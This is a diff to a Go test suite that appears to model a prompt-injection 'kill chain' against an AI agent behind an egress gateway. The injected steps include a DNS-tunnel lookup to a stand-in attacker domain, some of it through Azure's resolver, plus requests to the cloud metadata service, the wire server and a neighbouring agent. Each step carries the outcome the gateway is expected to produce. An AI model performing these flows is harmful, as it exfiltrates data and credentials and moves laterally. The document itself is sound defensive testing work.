@@ -2,6 +2,7 @@ package killchain
 
 import (
 	"net/netip"
+	"slices"
 
 	"github.com/bulkhead-dev/bulkhead/gateway/audit"
 	"github.com/bulkhead-dev/bulkhead/gateway/policy"
@@ -22,10 +23,20 @@ func udp(a netip.Addr, port uint16) flow {
 func question(name string) flow { return flow{class: audit.DNSActivity, host: name} }
 
 // steps is the chain: first what the agent is for, then what the injected prompt
-// asks of it.
-func steps(gateway netip.Addr) []step {
-	tunnel := "mfrggzdfmzta.t." + lab.AttackerDomain
-	return []step{
+// asks of it. What the network itself delivers or drops is not the gateway's to refuse.
+func steps(n *lab.Network) []step {
+	gateway, other := n.NextHop, n.Machine(lab.ResearchAgent)
+	tunnel, past := "mfrggzdfmzta.t."+lab.AttackerDomain, "past.t."+lab.AttackerDomain
+	around := func(dst netip.Addr, proto policy.Proto, port uint16) Outcome {
+		switch {
+		case n.Closed(dst, proto, port):
+			return Closed
+		case n.Next(dst).Way == lab.Via:
+			return Refused
+		}
+		return Direct
+	}
+	chain := []step{
 		// What it is for.
 		{"approved tool call", "GET https://" + lab.ToolName, Works, get("https://" + lab.ToolName + "/user"), tcp(lab.GitHub, 443, lab.ToolName)},
 		{"approved package download", "GET http://" + lab.MirrorName, Works, get("http://" + lab.MirrorName + "/simple/"), tcp(lab.Mirror, 80, lab.MirrorName)},
@@ -57,8 +68,12 @@ func steps(gateway netip.Addr) []step {
 		// Move sideways.
 		{"database next door", "TCP " + lab.DatabaseIP.String() + ":5432", Refused, postgres(lab.DatabaseIP), tcp(lab.DatabaseIP, 5432, "")},
 		{"the gateway's admin port", "TCP " + gateway.String() + ":9180", Refused, connect(gateway, 9180), tcp(gateway, 9180, "")},
-		{"wire server", "GET http://" + lab.WireServer.String(), Direct, get("http://" + lab.WireServer.String() + "/"), tcp(lab.WireServer, 80, "")},
-		{"metadata service", "GET http://" + lab.Metadata.String(), Direct, get("http://" + lab.Metadata.String() + "/"), tcp(lab.Metadata, 80, "")},
-		{"another agent, same subnet", "GET http://10.20.1.21", Direct, get("http://10.20.1.21/"), tcp(netip.MustParseAddr("10.20.1.21"), 80, "")},
+		{"wire server", "GET http://" + lab.WireServer.String(), around(lab.WireServer, policy.TCP, 80), get("http://" + lab.WireServer.String() + "/"), tcp(lab.WireServer, 80, "")},
+		{"metadata service", "GET http://" + lab.Metadata.String(), around(lab.Metadata, policy.TCP, 80), get("http://" + lab.Metadata.String() + "/"), tcp(lab.Metadata, 80, "")},
+		{"another agent, same subnet", "GET http://" + other.String(), around(other, policy.TCP, 80), get("http://" + other.String() + "/"), tcp(other, 80, "")},
+		{"Azure's own resolver", "A " + past + " at " + lab.WireServer.String(), around(lab.WireServer, policy.UDP, 53), lookup(past, lab.WireServer), udp(lab.WireServer, 53)},
 	}
+	return slices.DeleteFunc(chain, func(s step) bool {
+		return s.flow.dst.Addr() == lab.OpenAI && !n.Machine(lab.PrivateEndpoints).IsValid()
+	})
 }
